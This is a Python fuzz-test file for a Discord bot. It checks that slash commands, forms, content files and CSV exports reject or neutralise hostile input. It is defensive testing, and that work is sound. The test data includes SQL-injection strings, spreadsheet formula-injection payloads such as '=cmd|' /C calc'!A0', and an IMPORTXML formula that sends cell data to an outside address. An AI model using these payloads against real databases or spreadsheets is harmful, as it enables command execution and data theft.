"""Hostile input, fuzzed with hypothesis: long, control characters, right-to-left and zero-width text,
markdown and mention syntax, SQL-looking text, format placeholders. For every slash-command option and
modal field that exists: no crash, no traceback shown, a clear sentence for each rejection, stored data
unchanged by a rejected input, and nothing the bot posts can ping. Content files with hostile values
are rejected with a list of sentences, never an exception of another kind.

Hypothesis runs in a worker thread and drives the one running world of the test function through the
event loop, so each test pays for one bot, not one per example. Capabilities that land later (feedback,
moderation...) add a ``Field`` to ``FIELDS``-style lists below.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import tomllib
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from discord import AppCommandOptionType
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.content import DEFAULT_CONTENT_PATH, MAX_BODY, MAX_TITLE, ContentError, load_content
from bot.data.feedback import FeedbackRepository
from bot.data.officehours import OfficeHoursRepository
from bot.data.recommendations import RecommendationRepository
from bot.feedback.rules import MAX_LENGTH, MAX_RESPONSE
from bot.i18n import languages, t
from bot.officehours.export import FORMULA_START
from bot.officehours.service import MAX_QUESTION
from rehearsal.emulator import EmulatorError

from .test_access import leaf_commands

EXAMPLES = 30
PER_COMMAND = 8  # examples per command in the whole-tree fuzz
LANGUAGES = languages()
# The sentence of an unhandled error, in every language the bot speaks (up to its "(reference ...)").
GENERIC = [t("errors.generic", language, reference="").split("(")[0] for language in LANGUAGES]

PIECES = [
    "@everyone",
    "@here",
    "<@{alice}>",
    "<@!{alice}>",
    "<@&{role}>",
    "<#{channel}>",
    "**bold**",
    "__under__",
    "`code`",
    "```py\nprint(1)\n```",
    "||spoiler||",
    "> quote",
    "# Heading",
    "[link](https://example.org)",
    "\u202e",  # right-to-left override
    "\u200f",  # right-to-left mark
    "\u200b",  # zero-width space
    "\u200d",
    "\ufeff",
    "\x00",
    "\x07",
    "\x1b[31m",
    "\n",
    "\r\n",
    "\t",
    "مرحبا بالعالم",
    "שלום",
    "漢字",
    "🏳️‍🌈",
    "'; DROP TABLE recommendations; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "%s %d %n",
    "{name}",
    "{0}",
    "{{}}",
    "\\",
    '=HYPERLINK("http://x")',
    "+1",
    " ",
]


ACCEPTABLE_TITLES = [
    "@everyone @here read this",
    "<@{alice}> and <@&{role}> in <#{channel}>",
    "**bold** __under__ ||spoiler|| `code`",
    "\u202eRTL override \u200b zero-width",
    "مرحبا שלום 漢字 🏳️‍🌈",
    "'; DROP TABLE office_hours; --",
    "{title} {0} %s",
    '=HYPERLINK("http://x")',
]


def hostile_text(max_size: int = 6000) -> st.SearchStrategy[str]:
    return st.one_of(
        st.lists(st.sampled_from(PIECES), min_size=0, max_size=12).map("".join),
        st.text(max_size=80),
        st.builds(
            lambda piece, n: piece * n,
            st.sampled_from(["x", "é", "漢", "🛠️", "\u200b", " "]),
            st.integers(0, max_size),
        ),
        st.tuples(st.sampled_from(PIECES), st.text(max_size=20)).map("".join),
    )


def personalise(world, text: str) -> str:
    return (
        text.replace("{alice}", str(world.members["alice"]))
        .replace("{role}", str(world.roles["working_group"]))
        .replace("{channel}", str(world.text_id))
    )


async def fuzz(
    strategy: st.SearchStrategy[Any], check: Callable[[Any], Awaitable[None]], *, examples: int = EXAMPLES
) -> None:
    """Run ``check`` for hypothesis's examples on this test's event loop (hypothesis in a thread)."""
    loop = asyncio.get_running_loop()

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=True,  # the same examples on every run: a failure is reproducible
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def property_(value: Any) -> None:
        asyncio.run_coroutine_threadsafe(check(value), loop).result(60)

    await asyncio.to_thread(property_)


def answer_of(result) -> str:
    return result.followups[-1].content if result.deferred and result.followups else (result.content or "")


def assert_clear_sentence(text: str, where: str) -> None:
    assert text, f"{where}: no answer"
    assert "Traceback" not in text and "Error:" not in text, f"{where}: {text!r}"
    assert not any(g in text for g in GENERIC), f"{where}: an unhandled error reached the member: {text!r}"


def assert_nothing_pings(world) -> None:
    """Every message the bot sent carries allowed_mentions that ping no one (no @everyone, no role)."""
    for message in world.emu.state.messages.values():
        if message.author_id != world.emu.bot_user_id:
            continue
        allowed = message.allowed_mentions
        assert allowed is not None, f"message {message.id} sent without allowed_mentions: {message.content!r}"
        assert "everyone" not in allowed.get("parse", []) and "roles" not in allowed.get("parse", [])
        assert not allowed.get("roles"), allowed
        if "users" in allowed.get("parse", []):
            pytest.fail(f"message {message.id} lets every mentioned user be pinged: {message.content!r}")


async def test_edit_modal_fields(world, figures):
    await world.publish()
    repo = RecommendationRepository(world.db)
    outcome = {"saved": 0, "rejected": 0, "refused_by_discord": 0}

    async def check(values: tuple[str, str]) -> None:
        title, text = (personalise(world, v) for v in values)
        before = await repo.by_number(world.guild_id, 2)
        opened = await world.command("wg", "consultation edit", recommendation=2)
        title_id, text_id = [row["components"][0]["custom_id"] for row in opened.modal["components"]]
        try:
            submitted = await world.emu.submit_modal(
                world.members["wg"], opened, {title_id: title, text_id: text}
            )
        except EmulatorError:
            outcome["refused_by_discord"] += 1  # over a TextInput's max_length: Discord's client refuses it
            return
        await submitted.wait(10)
        if submitted.deferred:
            await submitted.wait_for_followup(10)
        answer = answer_of(submitted)
        assert_clear_sentence(answer, f"edit {values!r}")
        after = await repo.by_number(world.guild_id, 2)
        if answer.startswith("Saved version"):
            outcome["saved"] += 1
            assert (after.title, after.body) == (title.strip(), text.strip())
            assert 0 < len(after.title) <= MAX_TITLE and len(after.body) <= MAX_BODY
        else:
            outcome["rejected"] += 1
            assert submitted.ephemeral
            assert (after.version, after.title, after.body) == (before.version, before.title, before.body)

    await fuzz(st.tuples(hostile_text(300), hostile_text(MAX_BODY + 200)), check)
    assert_nothing_pings(world)
    figures["examples"] = sum(outcome.values())
    figures.values.update(outcome)
    assert outcome["saved"] > 0


async def test_officehours_schedule_options(world, figures):
    repo = OfficeHoursRepository(world.db)
    outcome = {"scheduled": 0, "rejected": 0, "refused_by_discord": 0}
    reasons: set[str] = set()

    async def check(values: tuple[str, str, str, str | None]) -> None:
        title, start, place, reminders = values
        options: dict[str, Any] = {
            "title": personalise(world, title),
            "start": start,
            "duration": 60,
            "capacity": 3,
            "place": personalise(world, place),
        }
        if reminders is not None:
            options["reminders"] = reminders
        before = len(await repo.upcoming(world.guild_id, world.clock.now(), limit=1000))
        try:
            result = await world.command("wg", "officehours-manage schedule", **options)
        except EmulatorError:
            outcome["refused_by_discord"] += 1  # outside the option's declared length range
            return
        if result.deferred:
            await result.wait_for_followup(10)
        answer = answer_of(result)
        assert_clear_sentence(answer, f"schedule {options!r}")
        after = len(await repo.upcoming(world.guild_id, world.clock.now(), limit=1000))
        if answer.startswith("Scheduled"):
            outcome["scheduled"] += 1
            assert after == before + 1
        else:
            outcome["rejected"] += 1
            reasons.add(answer.split("“")[0][:40])
            assert result.ephemeral and after == before

    mixed = st.lists(st.sampled_from(PIECES), min_size=1, max_size=5).map("".join)
    starts = st.one_of(
        st.just("2026-01-10 19:00 Europe/Madrid"), st.just("2026-01-12T10:00Z"), hostile_text(120)
    )
    await fuzz(
        st.tuples(
            st.one_of(mixed, hostile_text(120)),
            starts,
            st.one_of(mixed, hostile_text(120)),
            st.one_of(st.none(), st.just("24h, 15m"), hostile_text(40)),
        ),
        check,
    )
    # The accepted path with hostile titles and places: stored as typed, shown on the card, pinging no one.
    for index, piece in enumerate(ACCEPTABLE_TITLES):
        title = personalise(world, piece)
        await check((title, f"2026-01-{12 + index}T10:00Z", personalise(world, piece[:100]), None))
        [card] = [
            summary.session
            for summary in await repo.upcoming(world.guild_id, world.clock.now(), limit=1000)
            if summary.session.title == title.strip()
        ]
        assert world.emu.message(card.card_message_id).embeds
    assert_nothing_pings(world)
    figures["examples"] = sum(outcome.values())
    figures.values.update(outcome)
    figures["rejections"] = sorted(reasons)
    assert outcome["scheduled"] > 0 and outcome["rejected"] > 0


async def test_officehours_question_modal(world, figures):
    session = await world.schedule_office_hours(
        "Questions", capacity=5, place="https://meet.example/q", timeout=10
    )
    repo = OfficeHoursRepository(world.db)
    alice = world.members["alice"]
    world.emu.state.guilds[world.guild_id].members[alice].nick = "=cmd|' /C calc'!A0"  # a hostile nickname
    signed = await world.emu.click_button(
        alice, session.card_channel_id, session.card_message_id, f"officehours:signup:{session.id}"
    )
    await signed.wait(10)
    outcome = {"saved": 0, "unchanged": 0, "refused_by_discord": 0}

    async def check(question: str) -> None:
        question = personalise(world, question)
        opened = await world.emu.click_button(
            alice, session.card_channel_id, session.card_message_id, f"officehours:question:{session.id}"
        )
        await opened.wait(10)
        [field] = [row["components"][0]["custom_id"] for row in opened.modal["components"]]
        before = {s.user_id: s.question for s in await repo.signups(session.id)}[alice]
        try:
            submitted = await world.emu.submit_modal(alice, opened, {field: question})
        except EmulatorError:
            outcome["refused_by_discord"] += 1
            return
        await submitted.wait(10)
        answer = answer_of(submitted)
        assert_clear_sentence(answer, f"question {question!r}")
        assert submitted.ephemeral
        stored = {s.user_id: s.question for s in await repo.signups(session.id)}[alice]
        expected = question.strip()[:MAX_QUESTION] or None  # longer never reaches Discord's client
        if expected is not None and world.database_url:  # PostgreSQL text holds no NUL: U+FFFD instead
            expected = expected.replace("\x00", "\ufffd")
        assert stored == expected
        outcome["saved" if stored != before else "unchanged"] += 1
        # The export a working-group member opens in a spreadsheet runs no formula.
        export = await world.command("wg", "officehours-manage attendees", session=session.id)
        [(_, data)] = export.files
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert "question" in rows[0] and len(rows) == 2
        assert not any(value.startswith(FORMULA_START) for value in rows[1]), rows[1]
        assert rows[1][rows[0].index("question")].lstrip("'") == (stored or "")

    await fuzz(hostile_text(1200), check)
    assert_nothing_pings(world)
    figures["examples"] = sum(outcome.values())
    figures.values.update(outcome)


async def test_recommendation_number_and_autocomplete(world, figures):
    await world.publish()
    count = {"examples": 0}

    async def check(values: tuple[int, str]) -> None:
        number, typed = values
        count["examples"] += 1
        result = await world.command("wg", "consultation tally", recommendation=number)
        if 1 <= number <= 9:
            assert result.embeds
        else:
            assert result.ephemeral
            assert result.content == t("recommendations.unknown", number=number)
        choices = await world.emu.autocomplete(
            world.members["wg"], world.guild_id, "consultation tally", option="recommendation", value=typed
        )
        assert len(choices) <= 25 and all(1 <= len(c["name"]) <= 100 for c in choices)

    await fuzz(st.tuples(st.integers(-(2**53), 2**53), hostile_text(100)), check)
    figures.values.update(count)


async def test_feedback_form_answer_and_moderation_reason(world, figures):
    """Feedback text (form), the working group's answer (posted in the thread, pinging only the author)
    and a moderator's hide reason (shown again by /mod log)."""
    await world.publish()
    posts = {
        p.recommendation_id: p for p in await RecommendationRepository(world.db).live_posts(world.guild_id)
    }
    feedback = FeedbackRepository(world.db)
    outcome = {"saved": 0, "rejected": 0, "answered": 0, "hidden": 0}
    eve = world.members["eve"]

    async def check(values: tuple[str, bool, str, str]) -> None:
        text, anonymous, answer_text, reason = (
            personalise(world, v) if isinstance(v, str) else v for v in values
        )
        world.clock.advance(minutes=5)  # stay under the feedback cooldown
        post = list(posts.values())[outcome["saved"] % len(posts)]
        before = await feedback.for_author(world.guild_id, eve, active_only=False)
        opened = await world.emu.click_button(
            eve, post.thread_id, post.message_id, f"feedback:give:{post.recommendation_id}"
        )
        await opened.wait(10)
        form = {"text": text, "anonymous": anonymous}
        submitted = await (await world.emu.submit_modal(eve, opened, form)).wait(10)
        reply = answer_of(submitted)
        assert_clear_sentence(reply, f"feedback {text!r}")
        assert submitted.ephemeral
        after = await feedback.for_author(world.guild_id, eve, active_only=False)
        if len(after) == len(before):
            outcome["rejected"] += 1
            assert after == before
            return
        outcome["saved"] += 1
        [item] = [i for i in after if i.id not in {b.id for b in before}]
        assert item.body.strip() == text.strip() and item.anonymous == anonymous
        # The working group answers with hostile text: told in the thread, only the author may be pinged.
        answered = await world.command("wg", "feedback-manage respond", item=item.id, text=answer_text)
        if answered.deferred:
            await answered.wait_for_followup(10)
        assert_clear_sentence(answer_of(answered), f"respond {answer_text!r}")
        if "is saved" in answer_of(answered):
            outcome["answered"] += 1
            told = [m for m in world.emu.messages(post.thread_id) if m.author_id == world.emu.bot_user_id]
            for message in told:
                allowed = message.allowed_mentions or {}
                assert set(allowed.get("users", [])) <= {str(eve), eve}, allowed
        hidden = await world.command("mod", "mod hide", feedback=item.id, reason=reason)
        assert_clear_sentence(answer_of(hidden), f"hide {reason!r}")
        outcome["hidden"] += "hidden" in answer_of(hidden).casefold()

    await fuzz(
        st.tuples(
            hostile_text(MAX_LENGTH + 100), st.booleans(), hostile_text(MAX_RESPONSE + 50), hostile_text(600)
        ),
        check,
    )
    log = await world.command("mod", "mod log", limit=25)
    assert_clear_sentence(answer_of(log) or str(log.embeds), "mod log")
    assert_nothing_pings(world)
    figures["examples"] = outcome["saved"] + outcome["rejected"]
    figures.values.update(outcome)
    assert outcome["saved"] > 0 and outcome["rejected"] > 0


def option_strategy(world, parameter) -> st.SearchStrategy[Any]:
    """Hostile values for one option, within what Discord's client lets through (types, choices, ranges)."""
    kind = parameter.type
    if parameter.choices:
        return st.sampled_from([choice.value for choice in parameter.choices])
    if kind is AppCommandOptionType.string:
        low = int(parameter.min_value or 0)
        high = int(parameter.max_value or 6000)
        texts = st.one_of(hostile_text(high), st.sampled_from(PIECES)).map(lambda v: personalise(world, v))
        return texts.filter(lambda v: low <= len(v) <= high)
    if kind in (AppCommandOptionType.integer, AppCommandOptionType.number):
        low = int(parameter.min_value) if parameter.min_value is not None else -(2**53)
        high = int(parameter.max_value) if parameter.max_value is not None else 2**53
        return st.one_of(st.integers(low, high), st.integers(max(low, -3), min(high, 12)))
    if kind is AppCommandOptionType.boolean:
        return st.booleans()
    if kind in (AppCommandOptionType.user, AppCommandOptionType.mentionable):
        return st.sampled_from([world.members[name] for name in ("alice", "bob", "mod", "wg")])
    if kind is AppCommandOptionType.role:
        return st.sampled_from(list(world.roles.values()))
    if kind is AppCommandOptionType.channel:
        types = {int(getattr(c, "value", c)) for c in parameter.channel_types} or {0, 2, 11, 15}
        channels = [(world.text_id, 0), (world.voice_id, 2), (world.forum_id, 15), (world.digest_id, 0)]
        channels += [(thread.id, thread.type) for thread in world.emu.threads(world.forum_id)]
        pool = [channel_id for channel_id, type_ in channels if type_ in types]
        return st.sampled_from(pool) if pool else st.nothing()
    return st.nothing()


async def test_every_command_of_the_tree_with_hostile_options(world, figures):
    """Any command, any options Discord lets through, run by an administrator (who may run them all), and
    any form it opens sent back with hostile text: always an answer, never a traceback or an unhandled
    error. Capabilities that land later are covered without a change here."""
    await world.publish()
    commands = {command.qualified_name: command for command in leaf_commands(world.bot)}
    seen: dict[str, int] = {}

    @st.composite
    def invocation(draw, name: str) -> tuple[str, dict[str, Any], str]:
        options = {}
        for parameter in commands[name].parameters:
            if parameter.required or draw(st.booleans()):
                options[parameter.name] = draw(option_strategy(world, parameter))
        return name, options, draw(hostile_text(300))

    async def check(value: tuple[str, dict[str, Any], str]) -> None:
        name, options, form_text = value
        world.clock.advance(minutes=3)
        seen[name] = seen.get(name, 0) + 1
        result = await world.command("admin", name, timeout=30, **options)
        if result.modal is not None:
            fields = {
                comp["custom_id"]: form_text
                for row in result.modal["components"]
                for comp in row.get("components", []) + ([row["component"]] if "component" in row else [])
                if comp.get("type") == 4
            }
            result = await (await world.emu.submit_modal(world.members["admin"], result, fields)).wait(30)
        if result.deferred:
            await result.wait_for_followup(30)
        text = answer_of(result) or str(result.embeds)
        assert_clear_sentence(text, f"/{name} {options!r}")

    for name in sorted(commands):
        await fuzz(invocation(name), check, examples=PER_COMMAND)
    assert_nothing_pings(world)
    figures["commands"] = len(commands)
    figures["commands_run"] = len(seen)
    figures["examples"] = sum(seen.values())


def content_source() -> dict[str, Any]:
    return tomllib.loads(DEFAULT_CONTENT_PATH.read_text(encoding="utf-8"))


def to_toml(data: dict[str, Any]) -> str:
    def value(v: Any) -> str:
        if isinstance(v, bool):
            return "true" if v else "false"
        if isinstance(v, int | float):
            return repr(v)
        if isinstance(v, list):
            return "[" + ", ".join(value(x) for x in v) + "]"
        text = str(v)
        escaped = "".join(
            f"\\u{ord(ch):04x}" if ord(ch) < 0x20 or ch in '"\\' or 0x7F <= ord(ch) < 0xA0 else ch
            for ch in text
        )
        return f'"{escaped}"'

    lines = []
    for key, table in data.items():
        if isinstance(table, dict):
            lines.append(f"[{key}]")
            lines += [f"{k} = {value(v)}" for k, v in table.items()]
        else:
            for entry in table:
                lines.append(f"[[{key}]]")
                lines += [f"{k} = {value(v)}" for k, v in entry.items()]
    return "\n".join(lines) + "\n"


HOSTILE_VALUES = st.one_of(
    hostile_text(4000),
    st.integers(-(2**63), 2**63 - 1),
    st.booleans(),
    st.floats(allow_nan=False),
    st.lists(st.integers(), max_size=3),
)


@given(
    section=st.sampled_from(["consultation", "stances", "scoping_areas", "recommendations"]),
    index=st.integers(0, 8),
    key=st.sampled_from(
        ["title", "working_group", "key", "label", "emoji", "number", "name", "short_name", "text"]
    ),
    value=HOSTILE_VALUES,
)
@settings(max_examples=EXAMPLES * 3, deadline=None, database=None, derandomize=True)
def test_content_files_with_hostile_values(tmp_path_factory, section, index, key, value):
    data = content_source()
    target = data[section] if section == "consultation" else data[section][index % len(data[section])]
    target[key] = value
    path = tmp_path_factory.mktemp("content") / "hostile.toml"
    path.write_text(to_toml(data), encoding="utf-8")
    try:
        content = load_content(path)
    except ContentError as error:
        assert error.problems and all(p.strip() and "\n" not in p for p in error.problems)
        return
    # Accepted: what will be posted stays within Discord's limits and carries no control characters.
    for rec in content.recommendations:
        assert 0 < len(rec.title) <= MAX_TITLE and len(rec.text) <= MAX_BODY
        assert not any(ord(ch) < 0x20 and ch not in "\n\t" for ch in rec.title + rec.text)


@pytest.mark.parametrize(
    "raw",
    [
        b"\xff\xfe not utf-8",
        b"[consultation\ntitle = ",
        b"",
        b"[consultation]\ntitle = 1\n",
        ("x = '" + "a" * 1_000_000 + "'").encode(),
    ],
    ids=["binary", "broken-toml", "empty", "wrong-type", "huge"],
)
def test_content_files_that_are_not_content(tmp_path: Path, raw: bytes):
    path = tmp_path / "bad.toml"
    path.write_bytes(raw)
    with pytest.raises(ContentError) as caught:
        load_content(path)
    assert caught.value.problems


FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '\t=HYPERLINK("http://x")',
    "\r=1",
    "  =trimmed first",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    "<@&{role}> @everyone **look**",
    "\u202e=reversed",
]


async def test_digest_exports_neutralise_formulas(world, figures):
    """Feedback written to attack a spreadsheet (form and thread replies, also as display names) comes
    out of every CSV file of /digest as text, never as a formula."""
    await world.publish()
    posts = await RecommendationRepository(world.db).live_posts(world.guild_id)
    writers = [
        world.emu.create_member(world.guild_id, name, nick=name).id
        for name in ("=cmd|' /C calc'!A0", "+danger", "@at", "-minus", "plain")
    ]
    for index, text in enumerate(FORMULAS):
        text = personalise(world, text)
        user = writers[index % len(writers)]
        post = posts[index % len(posts)]
        world.clock.advance(minutes=5)
        opened = await world.emu.click_button(
            user, post.thread_id, post.message_id, f"feedback:give:{post.recommendation_id}"
        )
        await opened.wait(10)
        done = await (await world.emu.submit_modal(user, opened, {"text": text})).wait(10)
        assert "is saved with reference" in done.content, done.content
        await world.emu.post_message(user, post.thread_id, text)  # a thread reply is feedback too
    await world.settle()
    result = await world.command("wg", "digest", since="all", timeout=30)
    await result.wait_for_followup(30)
    files = [file for message in result.followups for file in message.files]
    sheets = [(name, data) for name, data in files if name.endswith(".csv")]
    assert sheets, [name for name, _ in files]
    cells = 0
    for name, data in sheets:
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for value in row:
                cells += 1
                # A member id is written as a tab and digits (bot.digest.people): never a formula, even
                # for a program that strips the tab first; any other cell starting so is.
                id_cell = re.fullmatch(r"\t-?[0-9]+", value) is not None
                assert id_cell or not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert_nothing_pings(world)
    figures["feedback_items"] = 2 * len(FORMULAS)
    figures["csv_files"] = len(sheets)
    figures["cells_checked"] = cells
